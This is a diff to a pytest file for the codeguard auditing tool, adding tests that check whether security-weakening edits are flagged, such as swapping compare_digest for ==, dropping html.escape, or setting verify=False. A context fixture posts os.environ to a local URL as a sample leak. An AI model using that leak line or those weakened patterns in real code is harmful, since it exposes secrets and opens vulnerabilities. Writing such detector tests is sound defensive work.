@@ -8,8 +8,10 @@ import pytest
 from audit_helpers import CLEAN, FLAGGED, git, write
 from in_process import codeguard
 
+from codeguard.analysis.rules.near_copy import lost_protections
 from codeguard.audit.findings import Finding
 from codeguard.audit.run import AuditOptions, audit
+from codeguard.corpus.chunking import chunk_file
 from codeguard.models import Severity
 
 OWN = '''import hmac
@@ -36,6 +38,32 @@ TESTS = "from m import add\n\n\ndef test_add():\n    assert add(1, 2) == 3\n"
 LEAK = (
     "import os, urllib.request\nurllib.request.urlopen('http://127.0.0.1', data=str(os.environ).encode())\n"
 )
+
+
+@pytest.mark.parametrize(
+    ("before", "after", "lost"),
+    [
+        ("return hmac.compare_digest(a, b)", "return a == b", "compare_digest"),
+        ("return '<b>' + html.escape(a) + b", "return '<b>' + a + b", "escape"),
+        ("return get(a, verify=True, data=b)", "return get(a, verify=False, data=b)", "verify"),
+        ("return get(a, verify=b)", "return get(a, verify=False)", "verify"),
+        ("if not a:\n        raise ValueError(a)\n    return b + 1", "return b + 1", "raise"),
+        ("return open(a, mode='wb')", "return open(a, mode='w')", ""),
+        ("return get(a, timeout=5)", "return get(a, timeout=9)", ""),
+        (
+            "if not a:\n        raise ValueError(a)\n    return b",
+            "if a is None:\n        raise KeyError(a)\n    return b",
+            "",
+        ),
+        ("return a + b", "return a - b", ""),
+    ],
+)
+def test_what_counts_as_a_lost_protection(before: str, after: str, lost: str) -> None:
+    sides = [chunk_file("m.py", f"def work(a, b):\n    {body}\n".encode()) for body in (before, after)]
+    (old,), (new,) = ([chunk for chunk in side.chunks if chunk.symbol == "work"] for side in sides)
+    found = [item.was for item in lost_protections(old, new)]
+    assert bool(found) is bool(lost)
+    assert all(lost in was for was in found)
 
 
 def changed(repository: Path, *edits: tuple[str, str], **options: object) -> tuple[Finding, ...]:
